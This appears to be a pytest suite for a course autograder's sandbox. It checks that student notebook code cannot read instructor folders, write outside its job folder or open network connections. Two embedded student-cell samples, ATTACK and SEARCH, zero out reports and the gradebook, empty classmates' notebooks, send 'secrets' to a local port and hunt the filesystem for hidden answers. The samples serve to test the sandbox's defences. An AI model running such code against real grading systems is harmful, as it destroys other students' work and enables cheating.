"""The verification pass runs student code in the sandbox (autograder.sandbox): the
instructor's folders look empty, nothing outside its job folder can be written, and no network
connection leaves it. Where no sandbox can be made, grading refuses in one line that names the
setting allowing it, and a report graded with that setting says so.

Each probe is a solution cell that does its forbidden thing and is correct only if that failed:
its verdict is `passed` exactly when the sandbox held (run unsandboxed, every probe fails).
"""
import csv
import hashlib
import json
import os
import shutil
import socket
import sys
import threading

import nbformat
import pytest

from autograder import course, sandbox, verify
from autograder.submissions import make_submission, reference_solutions

from conftest import ROOT, release_notebook, run_cli

A = "initialization"
ZEROS = "initialize_parameters_zeros"

needs_sandbox = pytest.mark.skipif(bool(sandbox.problem()), reason=sandbox.problem() or "")


def _probe(body):
    """The reference solution of ZEROS, preceded by ``body`` at the cell's top level."""
    return body + "\n" + reference_solutions(A)[ZEROS]


def _verdict(body):
    nb = make_submission(release_notebook(A), A, {ZEROS: _probe(body)})
    return verify.verify_notebook(course.assignment(A), nb)[ZEROS]


@needs_sandbox
@pytest.mark.parametrize("folder", [course.HIDDEN_REFERENCES, ROOT / "notebooks", ROOT / "grading"],
                         ids=["hidden references", "source notebooks", "grading"])
def test_the_instructor_folders_look_empty(folder):
    assert folder.is_dir()
    verdict = _verdict(f"import os\nassert os.listdir({str(folder)!r}) == [], 'the folder is readable'")
    assert verdict.passed, verdict.reason


@needs_sandbox
def test_nothing_outside_the_job_folder_can_be_written(tmp_path):
    target = ROOT / "README.md"
    before = target.read_bytes()
    verdict = _verdict(f"""
try:
    open({str(target)!r}, "a").write("changed by a student")
    wrote = True
except OSError:
    wrote = False
assert not wrote, "wrote into the course"
""")
    assert target.read_bytes() == before
    assert verdict.passed, verdict.reason


@needs_sandbox
def test_no_connection_leaves_the_sandbox():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(30)
    port = server.getsockname()[1]
    accepted = []

    def accept():
        try:
            accepted.append(server.accept())
        except OSError:
            pass
    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        verdict = _verdict(f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"secrets")
    connected = True
except OSError:
    connected = False
assert not connected, "reached the grader's network"
""")
    finally:
        server.close()
        thread.join(5)
    assert not accepted, "a connection from the sandbox reached the test's server"
    assert verdict.passed, verdict.reason


def test_grading_refuses_without_a_sandbox_in_one_line(tmp_path, monkeypatch):
    notebook = tmp_path / f"{A}.ipynb"
    notebook.write_text("{}")
    # a PATH without bubblewrap: only this Python's own folder
    monkeypatch.setenv("PATH", os.path.dirname(sys.executable))
    monkeypatch.delenv(sandbox.UNSANDBOXED, raising=False)
    proc = run_cli("grade", A, notebook)
    assert proc.returncode == 2
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and sandbox.UNSANDBOXED in lines[0] and "bubblewrap" in lines[0], proc.stderr
    assert not proc.stdout


def test_an_unsandboxed_grade_says_so(tmp_path, monkeypatch):
    notebook = tmp_path / f"{A}.ipynb"
    nbformat.write(make_submission(release_notebook(A), A), str(notebook))
    monkeypatch.setenv("PATH", os.path.dirname(sys.executable))
    monkeypatch.setenv(sandbox.UNSANDBOXED, "1")
    proc = run_cli("grade", A, notebook, "--json")
    assert proc.returncode == 0, proc.stderr
    assert sandbox.UNSANDBOXED_NOTE in proc.stdout


# A solution cell that walks up from its working folder to the course and attacks it: zeroes
# every saved report and the gradebook, empties every submitted notebook, phones home.
ATTACK = """
import glob, os, socket, sqlite3
course = os.getcwd()
for _ in range(8):
    if os.path.isdir(os.path.join(course, "grading")):
        break
    course = os.path.dirname(course)
for path in glob.glob(os.path.join(course, "grading", "reports", "*", "*.json")):
    try:
        open(path, "w").write('{"score": 0}')
    except OSError:
        pass
try:
    db = sqlite3.connect(os.path.join(course, "grading", "gradebook.db"))
    db.execute("update grade set manual_score = 0")
    db.commit()
except Exception:
    pass
for path in glob.glob(os.path.join(course, "grading", "submitted", "*", "*", "*.ipynb")):
    try:
        open(path, "w").write("{}")
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"the course's secrets")
except OSError:
    pass
"""


# A solution cell that looks, from the student's kernel, for the hidden expected values: lists
# the instructor's folders, searches the repository, the course, /tmp and the home folder for any
# copy of the hidden reference file (by size, then content), and writes a file past the size
# limit into its own folder. Its function then answers from whatever it found.
SEARCH = """
import hashlib, os
import dlcourse
from dlcourse.casefile import load_cases
repo = os.path.dirname(os.path.dirname(os.path.dirname(dlcourse.__file__)))
course = os.getcwd()
for _ in range(8):
    if os.path.isdir(os.path.join(course, "grading")):
        break
    course = os.path.dirname(course)
print("listed:", os.listdir(os.path.join(repo, "autograder", "references")),
      os.listdir(os.path.join(repo, "notebooks")), os.listdir(os.path.join(course, "notebooks")))
found = []
for top in (repo, course, "/tmp", os.path.expanduser("~")):
    for folder, _, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                if (name.endswith(".h5") and os.path.getsize(path) == SIZE
                        and hashlib.sha256(open(path, "rb").read()).hexdigest() == DIGEST):
                    found.append(path)
            except OSError:
                pass
print("found:", found)
try:
    with open("big.bin", "wb") as big:
        big.write(bytes(3 << 20))
    print("wrote a big file")
except OSError as exc:
    print("big file refused:", exc.strerror)

def initialize_parameters_he(layers_dims):
    for path in found:
        for case in load_cases(path).get("initialize_parameters_he", []):
            if list(case.args[0]) == list(layers_dims):
                return case.expected
    return {}
"""


@needs_sandbox
def test_a_student_kernel_finds_no_hidden_value_and_no_room(tmp_path, monkeypatch):
    """From the kernel, the instructor's folders look empty and no copy of the hidden reference
    file is anywhere to be found: the function that relies on them scores 0. A file past the
    size limit (1 MB here) is refused, and grading goes on."""
    monkeypatch.setenv("DLCOURSE_FILE_MB", "1")
    hidden_file = course.hidden_reference_path(A)
    attack = (SEARCH.replace("SIZE", str(hidden_file.stat().st_size))
              .replace("DIGEST", repr(hashlib.sha256(hidden_file.read_bytes()).hexdigest())))
    root = tmp_path / "course"
    shutil.copytree(course.source_notebook_path(A).parent, root / "notebooks" / A)
    solutions = reference_solutions(A)
    folder = root / "grading" / "submitted" / "mallory" / A
    folder.mkdir(parents=True)
    nbformat.write(make_submission(release_notebook(A), A, {**solutions, "initialize_parameters_he": attack}),
                   str(folder / f"{A}.ipynb"))
    graded = run_cli("grade-all", "--course", root, "--workers", 1, "--json")
    assert graded.returncode == 0, graded.stderr
    report = json.loads((root / "grading" / "reports" / A / "mallory.json").read_text())
    scores = {t["name"]: t["score"] for t in report["tests"]}
    assert scores.pop("test_initialize_parameters_he") == 0, report
    assert all(score > 0 for score in scores.values()), f"grading went on: {scores}"
    autograded = nbformat.read(str(root / "grading" / "autograded" / "mallory" / A / f"{A}.ipynb"), 4)
    printed = "".join(o.get("text", "") for c in autograded.cells if c.cell_type == "code"
                      for o in c.get("outputs", []))
    assert "listed: [] [] []" in printed, printed
    assert "found: []" in printed, printed
    assert "big file refused: File too large" in printed, printed
    assert (root / "grading" / "autograded" / "mallory" / A / "big.bin").stat().st_size == 1 << 20


@needs_sandbox
@pytest.mark.parametrize("runner", [("--workers", 1), ("--scheduler", "local")],
                         ids=["in grade-all", "on Dask workers"])
def test_a_student_kernel_cannot_touch_the_class(tmp_path, runner):
    """A class of two: alice (correct) and zed, whose kernel attacks everything alice has,
    graded by grade-all itself or on a local Dask cluster's workers. alice keeps full marks
    everywhere (printed, saved report, gradebook export, feedback page), her submission is
    unchanged, and no connection leaves the sandbox."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(1)
    root = tmp_path / "course"
    shutil.copytree(course.source_notebook_path(A).parent, root / "notebooks" / A)
    solutions = reference_solutions(A)
    attack = ATTACK.replace("PORT", str(server.getsockname()[1]))
    for student, implementations in (("alice", solutions),
                                     ("zed", {**solutions, ZEROS: attack + solutions[ZEROS]})):
        folder = root / "grading" / "submitted" / student / A
        folder.mkdir(parents=True)
        nbformat.write(make_submission(release_notebook(A), A, implementations),
                       str(folder / f"{A}.ipynb"))
    alice_submission = (root / "grading" / "submitted" / "alice" / A / f"{A}.ipynb").read_bytes()
    try:
        graded = run_cli("grade-all", "--course", root, *runner, "--json")
        feedback = run_cli("feedback", "--course", root)
        try:
            connection = server.accept()
        except OSError:
            connection = None
    finally:
        server.close()
    assert graded.returncode == 0 and feedback.returncode == 0, graded.stderr + feedback.stderr
    printed = {r["student"]: r for r in map(json.loads, graded.stdout.splitlines())}
    assert printed["alice"]["score"] == printed["alice"]["max_score"] > 0, printed["alice"]
    saved = json.loads((root / "grading" / "reports" / A / "alice.json").read_text())
    assert saved["score"] == saved["max_score"] == printed["alice"]["max_score"], saved
    with open(root / "grading" / "grades.csv", newline="") as f:
        rows = {r["student_id"]: float(r["score"]) for r in csv.DictReader(f)}
    assert rows["alice"] == saved["max_score"], rows
    page = (root / "grading" / "feedback" / "alice" / A / f"{A}.html").read_text(encoding="utf-8")
    assert f"{saved['max_score']:g} / {saved['max_score']:g} points" in page
    assert (root / "grading" / "submitted" / "alice" / A / f"{A}.ipynb").read_bytes() == alice_submission
    assert connection is None, "a connection from the kernel reached the test's server"
    zed = json.loads((root / "grading" / "reports" / A / "zed.json").read_text())
    assert zed["score"] == zed["max_score"], "zed's attack failed quietly; his own code is correct"
